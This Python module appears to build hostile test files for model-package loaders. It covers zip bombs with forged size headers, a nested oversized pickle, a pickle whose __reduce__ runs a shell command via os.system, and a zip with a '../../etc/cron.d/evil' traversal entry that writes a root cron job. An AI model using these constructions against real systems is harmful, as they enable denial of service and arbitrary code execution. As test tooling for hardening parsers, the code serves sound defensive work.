"""Hostile files built in code, cheaply: zip bombs of any inflated size from a few MB of deflate data.

A deflate stream may be a run of independent blocks: one chunk compressed on its own (a full flush
resets the window) decodes the same wherever it sits, so repeating its bytes N times inflates to the
chunk N times. The zip around it is written by hand (local headers, central directory, end record), so
a 1.8 GiB member costs one CRC pass, not a compression of 1.8 GiB.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np

MiB = 1024 * 1024


def pattern_chunk(density: float, size: int = MiB, seed: int = 0) -> bytes:
    """Mostly zeros with random bytes at `density`: 0.003 deflates about 80x, 0 about 1000x."""
    rng = np.random.default_rng(seed)
    mask = rng.random(size) < density
    return (mask * rng.integers(1, 255, size, dtype=np.uint8)).astype(np.uint8).tobytes()


def _deflated(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


@dataclass
class Member:
    name: str
    prefix: bytes = b""  # real content first
    chunk: bytes = b""  # then this chunk ...
    repeat: int = 0  # ... this many times
    declared_size: int | None = None  # a lying header

    def size(self) -> int:
        return len(self.prefix) + len(self.chunk) * self.repeat

    def crc(self) -> int:
        crc = zlib.crc32(self.prefix)
        for _ in range(self.repeat):
            crc = zlib.crc32(self.chunk, crc)
        return crc

    def deflate(self) -> Iterator[bytes]:
        yield _deflated(self.prefix)
        block = _deflated(self.chunk)
        for _ in range(self.repeat):
            yield block
        yield b"\x03\x00"  # an empty final block


def write_zip(path: Path, members: list[Member]) -> Path:
    central, offset = [], 0
    with open(path, "wb") as f:
        for m in members:
            name = m.name.encode()
            crc, usize = m.crc(), m.declared_size if m.declared_size is not None else m.size()
            header_at = offset
            f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, 0, 0, len(name), 0) + name)
            csize = 0
            for part in m.deflate():
                f.write(part)
                csize += len(part)
            end = f.tell()
            f.seek(header_at + 18)
            f.write(struct.pack("<II", csize, usize))  # sizes known once written
            f.seek(end)
            offset = end
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, (3 << 8) | 20, 20, 0, 8, 0, 0x21, crc,
                                       csize, usize, len(name), 0, 0, 0, 0, 0o100644 << 16, header_at) + name)
        cd = b"".join(central)
        f.write(cd)
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(cd), offset, 0))
    return path


def members_of(zip_path: Path) -> list[Member]:
    with zipfile.ZipFile(zip_path) as z:
        return [Member(i.filename, prefix=z.read(i)) for i in z.infolist() if not i.is_dir()]


def mlpackage_with_big_weights(src: Path, out: Path, inflated: int, density: float) -> Path:
    """A real zipped .mlpackage whose weight.bin is padded to `inflated` bytes (its weights stay valid)."""
    members = members_of(src)
    weights = next(m for m in members if m.name.endswith("weights/weight.bin"))
    weights.chunk = pattern_chunk(density)
    weights.repeat = (inflated - len(weights.prefix)) // len(weights.chunk)
    return write_zip(out, members)


def nested_pickle_bomb(src_pt2: Path, out: Path) -> Path:
    """A .pt2 whose sample inputs are a torch.save zip holding a data.pkl declared at 1 GiB (zeros)."""
    inner = io.BytesIO()
    write_zip_to = Path(str(out) + ".inner.zip")
    write_zip(write_zip_to, [Member("archive/data.pkl", chunk=b"\0" * MiB, repeat=1024)])
    inner.write(write_zip_to.read_bytes())
    write_zip_to.unlink()
    return _pt2_with(src_pt2, out, "data/sample_inputs/model.pt", inner.getvalue())


def pickle_decoy(src_pt2: Path, out: Path, marker: Path) -> Path:
    """A .pt2 whose weights config names one file twice: raw for one entry, pickled for another, and that
    file is a pickle which would run `touch marker`."""
    class Payload:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            import os

            return (os.system, (f"touch {marker}",))

    evil = pickle.dumps(Payload(), protocol=2)
    with zipfile.ZipFile(src_pt2) as z:
        cfg_name = next(n for n in z.namelist() if n.endswith("model_weights_config.json"))
        cfg = json.loads(z.read(cfg_name))
    key, first = next(iter(cfg["config"].items()))
    cfg["config"][key + "_decoy"] = dict(first, use_pickle=True)  # same path_name, pickled
    first["use_pickle"] = False
    rel = f"data/weights/{first['path_name']}"
    return _pt2_with(src_pt2, out, rel, evil, ("data/weights/model_weights_config.json", cfg))


def _pt2_with(src: Path, dst: Path, rel: str, data: bytes, config: tuple[str, dict] | None = None) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        prefix = next(n for n in zin.namelist() if n.endswith("archive_format"))[: -len("archive_format")]
        for info in zin.infolist():
            name = info.filename[len(prefix):]
            if name == rel:
                continue
            zout.writestr(info, json.dumps(config[1]) if config and name == config[0] else zin.read(info))
        zout.writestr(prefix + rel, data)
    return dst


def many_entries(out: Path, n: int = 20_000) -> Path:
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("Manifest.json", "{}")
        for i in range(n):
            z.writestr(f"Data/f{i}", b"")
    return out


def traversal(out: Path) -> Path:
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("Manifest.json", "{}")
        z.writestr("../../etc/cron.d/evil", b"* * * * * root touch /tmp/pwned\n")
    return out
